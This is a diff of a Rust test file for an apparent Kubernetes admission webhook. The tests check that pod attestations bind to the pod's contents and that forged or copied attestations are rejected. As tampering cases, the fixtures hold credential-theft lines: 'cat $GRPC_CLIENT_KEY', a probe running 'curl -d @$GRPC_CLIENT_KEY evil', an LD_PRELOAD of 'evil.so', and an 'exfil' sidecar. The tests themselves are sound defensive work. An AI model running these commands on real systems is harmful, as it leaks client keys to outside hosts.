@@ -6,7 +6,7 @@
 
 mod support;
 
-use keyward_engine::{Reason, Requirement};
+use keyward_engine::{Reason, RequestFacts, Requirement};
 use serde_json::{json, Value};
 use support::*;
 
@@ -230,53 +230,230 @@ fn requires_lists_each_new_dependency_with_its_provider_once() {
 
 const LMEVAL_OPERATOR: &str = "system:serviceaccount:lm-eval:lm-eval-controller-manager";
 
-/// What the webhook signs for the fms driver pod: the owner, the profile and the record.
-fn lmeval_payload(pod: &Value) -> Vec<u8> {
+/// What the controller finds of the attestation on `pod` as stored (created at `created`),
+/// worked out as it works it out: the profile's injection re-decided on the pod, the pod's
+/// binding under it, the tag checked with `attestor`.
+fn stored_verdict(pod: &Value, attestor: &TestAttestor, created: u64) -> keyward_engine::attest::Verdict {
+    use keyward_engine::attest::{self, OwnerRef, Subject};
+    use keyward_engine::binding::{self, Masks};
+    use keyward_engine::Attestor as _;
+    let d = decide(&create("team-a", LMEVAL_OPERATOR), pod, &builtin());
+    assert_eq!(d.reason, Reason::AlreadyInjected, "{:?}", d.message());
+    let injections = &d.outcome.as_ref().unwrap().injections;
+    let bound = binding::of_raw(Some(&raw(&pod["spec"])), &Masks::of(injections)).unwrap();
     let owner = &pod["metadata"]["ownerReferences"][0];
-    keyward_engine::attest::payload(
-        "team-a",
-        &keyward_engine::attest::OwnerRef {
+    let annotations = &pod["metadata"]["annotations"];
+    let subject = Subject {
+        namespace: "team-a",
+        owner: OwnerRef {
             group: "foundation-model-stack.github.com.github.com",
             kind: "LMEvalJob",
             name: owner["name"].as_str().unwrap(),
             uid: owner["uid"].as_str().unwrap(),
         },
-        "lmeval",
-        pod["metadata"]["annotations"]["keyward.io/injected"].as_str().unwrap(),
-    )
+        profile: "lmeval",
+        injected: annotations["keyward.io/injected"].as_str().unwrap_or_default(),
+    };
+    attest::check(annotations["keyward.io/attestation"].as_str(), &subject, &bound, Some(created), |p, id, tag| {
+        attestor.verifies(p, id, tag)
+    })
 }
 
 #[test]
 fn a_pod_whose_owner_gets_credentials_is_attested_once_and_a_forgery_is_replaced() {
-    use keyward_engine::Attestor as _;
     let attestor = TestAttestor { key: Some(1) };
     let facts = create("team-a", LMEVAL_OPERATOR).attested_by(&attestor);
     let (d, after) = admit(&facts, &fixture("lmeval-fms-driver-pod.json"), &builtin());
     assert_eq!(d.reason, Reason::Injected);
-    let value = after["metadata"]["annotations"]["keyward.io/attestation"].as_str().unwrap();
-    assert_eq!(Some(value.to_string()), attestor.attest(&lmeval_payload(&after)));
+    let value = after["metadata"]["annotations"]["keyward.io/attestation"].as_str().unwrap().to_string();
+    assert!(value.starts_with(&format!("v2.1.{ADMITTED_AT}.n")), "{value}");
+    assert_eq!(stored_verdict(&after, &attestor, ADMITTED_AT + 1), keyward_engine::attest::Verdict::Valid);
     let ops = patch_json(&d);
     assert!(
         ops.as_array().unwrap().iter().any(|op| op["path"] == "/metadata/annotations/keyward.io~1attestation"),
         "{ops}"
     );
-    // A reinvocation changes nothing.
+    // A reinvocation changes nothing (`admit` checked it): the attestation is kept.
     let again = decide(&facts, &after, &builtin());
     assert_eq!((again.reason, again.patch().len()), (Reason::AlreadyInjected, 0));
 
-    // A pod that arrives with an attestation it wrote itself gets the real one instead.
+    // A pod that arrives with an attestation it wrote itself gets a real one instead.
     let mut forged = fixture("lmeval-fms-driver-pod.json");
-    forged["metadata"]["annotations"] = json!({"keyward.io/attestation": "v1.test.0000000000000000"});
+    forged["metadata"]["annotations"] = json!({"keyward.io/attestation": "v2.1.1796196142.n0.AAAA.0000000000000000"});
     let (_, after) = admit(&facts, &forged, &builtin());
-    assert_eq!(after["metadata"]["annotations"]["keyward.io/attestation"].as_str(), Some(value));
-    // Under another key (another cluster's webhook), the attestation differs.
-    let other = TestAttestor { key: Some(2) };
-    let (_, elsewhere) = admit(
-        &create("team-a", LMEVAL_OPERATOR).attested_by(&other),
-        &fixture("lmeval-fms-driver-pod.json"),
-        &builtin(),
+    let replaced = after["metadata"]["annotations"]["keyward.io/attestation"].as_str().unwrap();
+    assert_ne!(replaced, "v2.1.1796196142.n0.AAAA.0000000000000000");
+    assert_eq!(stored_verdict(&after, &attestor, ADMITTED_AT), keyward_engine::attest::Verdict::Valid);
+    // Under another key (another cluster's webhook), it does not verify.
+    assert_eq!(
+        stored_verdict(&after, &TestAttestor { key: Some(2) }, ADMITTED_AT),
+        keyward_engine::attest::Verdict::Forged
     );
-    assert_ne!(elsewhere["metadata"]["annotations"]["keyward.io/attestation"].as_str(), Some(value));
+}
+
+/// A change a tenant makes to a copied pod, named.
+type Change = (&'static str, fn(&mut Value));
+
+/// The copy a tenant makes of the operator's driver pod: its annotations, labels, owner and
+/// keyward's volumes, on a pod of her own (`change` makes it hers).
+fn copy_of(original: &Value, change: impl Fn(&mut Value)) -> Value {
+    let mut copy = original.clone();
+    copy["metadata"]["name"] = json!("tenant-pod");
+    change(&mut copy);
+    copy
+}
+
+#[test]
+fn an_attestation_is_bound_to_what_the_pod_runs_and_mounts() {
+    use keyward_engine::attest::Verdict;
+    let attestor = TestAttestor { key: Some(1) };
+    let facts = create("team-a", LMEVAL_OPERATOR).attested_by(&attestor);
+    let (_, original) = admit(&facts, &fixture("lmeval-fms-driver-pod.json"), &builtin());
+    let changes: [Change; 7] = [
+        ("another image", |p| p["spec"]["containers"][0]["image"] = json!("quay.io/tenant/steal:1")),
+        ("another command", |p| p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "cat $GRPC_CLIENT_KEY"])),
+        ("another env var", |p| {
+            p["spec"]["containers"][0]["env"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({"name": "LD_PRELOAD", "value": "/x/evil.so"}))
+        }),
+        ("another volume and mount", |p| {
+            p["spec"]["volumes"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({"name": "tools", "configMap": {"name": "tenant-tools", "defaultMode": 420}}));
+            p["spec"]["containers"][0]["volumeMounts"]
+                .as_array_mut()
+                .unwrap()
+                .push(json!({"name": "tools", "mountPath": "/opt/app-root/bin"}));
+        }),
+        ("another service account", |p| p["spec"]["serviceAccountName"] = json!("tenant-sa")),
+        (
+            "an exec probe",
+            |p| p["spec"]["containers"][0]["livenessProbe"] = json!({"exec": {"command": ["sh", "-c", "curl -d @$GRPC_CLIENT_KEY evil"]}, "periodSeconds": 10, "timeoutSeconds": 1, "successThreshold": 1, "failureThreshold": 3}),
+        ),
+        ("a sidecar", |p| {
+            p["spec"]["containers"].as_array_mut().unwrap().push(json!({"name": "exfil", "image": "quay.io/tenant/steal:1", "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}))
+        }),
+    ];
+    for (what, change) in changes {
+        let copy = copy_of(&original, change);
+        // As stored (never through the webhook: labelled out, or not selected at creation).
+        assert_eq!(stored_verdict(&copy, &attestor, ADMITTED_AT + 30), Verdict::Rebound, "{what}");
+        // Through the webhook as the operator: the copy is not kept, a new one is made for it.
+        let d = decide(&facts, &copy, &builtin());
+        let after = apply(&copy, &d);
+        assert_ne!(
+            after["metadata"]["annotations"]["keyward.io/attestation"],
+            original["metadata"]["annotations"]["keyward.io/attestation"],
+            "{what}"
+        );
+    }
+    // The very same pod, created long after the original was admitted: a copy too.
+    let late = copy_of(&original, |_| {});
+    assert_eq!(
+        stored_verdict(&late, &attestor, ADMITTED_AT + 3600),
+        Verdict::Untimely { at: ADMITTED_AT, created: Some(ADMITTED_AT + 3600) }
+    );
+    // What the scheduler, the kubelet and the in-tree plugins change is not bound.
+    let scheduled = copy_of(&original, |p| {
+        p["spec"]["nodeName"] = json!("worker-2");
+        p["spec"]["containers"][0]["resources"] = json!({"limits": {"cpu": "2"}, "requests": {"cpu": "2"}});
+        p["spec"]["tolerations"] = json!([]);
+        p["status"] = json!({"phase": "Running"});
+    });
+    assert_eq!(stored_verdict(&scheduled, &attestor, ADMITTED_AT), Verdict::Valid);
+}
+
+#[test]
+fn another_webhook_adding_a_sidecar_before_keyward_is_reinvoked_keeps_the_identity() {
+    use keyward_engine::attest::Verdict;
+    let attestor = TestAttestor { key: Some(1) };
+    let facts = create("team-a", LMEVAL_OPERATOR).attested_by(&attestor);
+    let (_, first) = admit(&facts, &fixture("lmeval-fms-driver-pod.json"), &builtin());
+    // A mesh injector after keyward: an init container, a sidecar and their volume.
+    let mut meshed = first.clone();
+    meshed["spec"]["initContainers"] = json!([{"name": "mesh-init", "image": "mesh/proxy:1", "args": ["iptables"], "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}]);
+    meshed["spec"]["containers"].as_array_mut().unwrap().push(json!({"name": "mesh-proxy", "image": "mesh/proxy:1", "volumeMounts": [{"name": "mesh-certs", "mountPath": "/etc/mesh"}], "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}));
+    meshed["spec"]["volumes"]
+        .as_array_mut()
+        .unwrap()
+        .push(json!({"name": "mesh-certs", "emptyDir": {"medium": "Memory"}}));
+    // Not reinvoked: the stored pod is not what keyward admitted.
+    assert_eq!(stored_verdict(&meshed, &attestor, ADMITTED_AT), Verdict::Rebound);
+    // Reinvoked (IfNeeded): keyward attests the pod as it now is, and that holds as stored.
+    let d = decide(&facts, &meshed, &builtin());
+    assert_eq!(d.reason, Reason::Injected, "{:?}", d.message());
+    let stored = apply(&meshed, &d);
+    assert_eq!(stored_verdict(&stored, &attestor, ADMITTED_AT), Verdict::Valid);
+    let again = decide(&facts, &stored, &builtin());
+    assert_eq!((again.reason, again.patch().len()), (Reason::AlreadyInjected, 0));
+}
+
+#[test]
+fn a_copied_attestation_does_not_survive_the_webhook_on_any_path_that_writes_none() {
+    let attestor = TestAttestor { key: Some(1) };
+    let operator = create("team-a", LMEVAL_OPERATOR).attested_by(&attestor);
+    let (_, original) = admit(&operator, &fixture("lmeval-fms-driver-pod.json"), &builtin());
+    let copied = |pod: &mut Value| {
+        if !pod["metadata"]["annotations"].is_object() {
+            pod["metadata"]["annotations"] = json!({});
+        }
+        let annotations = pod["metadata"]["annotations"].as_object_mut().unwrap();
+        for key in ["keyward.io/attestation", "keyward.io/injected"] {
+            annotations.insert(key.into(), original["metadata"]["annotations"][key].clone());
+        }
+    };
+    let skip_profile = profile(
+        "  controllerOwners: [{apiGroup: apps, kind: ReplicaSet}]\n  requesters: {usernames: [\"someone-else\"], otherwise: skip}\n",
+        "    clientCertificate: {secretName: \"{owner.name}-client\", mountPath: /var/run/secrets/demo/client, provider: keyward}\n",
+    )
+    .replace(&format!("  requesters: {{usernames: [\"{OPERATOR}\"]}}\n"), "");
+    let mut tenant_pod = plain_pod();
+    copied(&mut tenant_pod);
+    let mut unselected = fixture("lmeval-fms-driver-pod.json");
+    unselected["metadata"]["labels"] = json!({"app": "tenant"});
+    copied(&mut unselected);
+    let mut conflicting = fixture("lmeval-fms-driver-pod-grpc-tls.json");
+    copied(&mut conflicting);
+    let mut kfp = fixture("kfp-persistenceagent-pod-no-token.json");
+    kfp["metadata"]["annotations"] = json!({});
+    copied(&mut kfp);
+    let cases: [(&str, RequestFacts<'_>, &Value, keyward_engine::ProfileSet, Reason); 4] = [
+        ("no profile selects it", operator, &unselected, builtin(), Reason::NoProfile),
+        (
+            "the requester is skipped",
+            create("team-a", OPERATOR).attested_by(&attestor),
+            &tenant_pod,
+            profiles(&skip_profile),
+            Reason::RequesterSkipped,
+        ),
+        ("the conflict is skipped", operator, &conflicting, builtin(), Reason::ConflictSkipped),
+        (
+            "the profile issues nothing per owner",
+            create("kubeflow", REPLICASET_CONTROLLER).attested_by(&attestor),
+            &kfp,
+            builtin(),
+            Reason::Injected,
+        ),
+    ];
+    for (what, facts, pod, set, reason) in cases {
+        let d = decide(&facts, pod, &set);
+        assert_eq!(d.reason, reason, "{what}: {:?}", d.message());
+        let after = apply(pod, &d);
+        assert!(after["metadata"]["annotations"].get("keyward.io/attestation").is_none(), "{what}: {after:#}");
+        let injected = after["metadata"]["annotations"].get("keyward.io/injected");
+        assert_ne!(injected, original["metadata"]["annotations"].get("keyward.io/injected"), "{what}");
+        assert!(
+            d.warnings.iter().any(|w| w.starts_with("keyward: removed keyward.io/attestation")),
+            "{what}: {:?}",
+            d.warnings
+        );
+    }
+    // Outside the webhook's own admission (explain, a stored pod re-decided) nothing is removed.
+    let d = decide(&create("team-a", LMEVAL_OPERATOR), &unselected, &builtin());
+    assert!(d.patch().is_empty());
 }
 
 #[test]
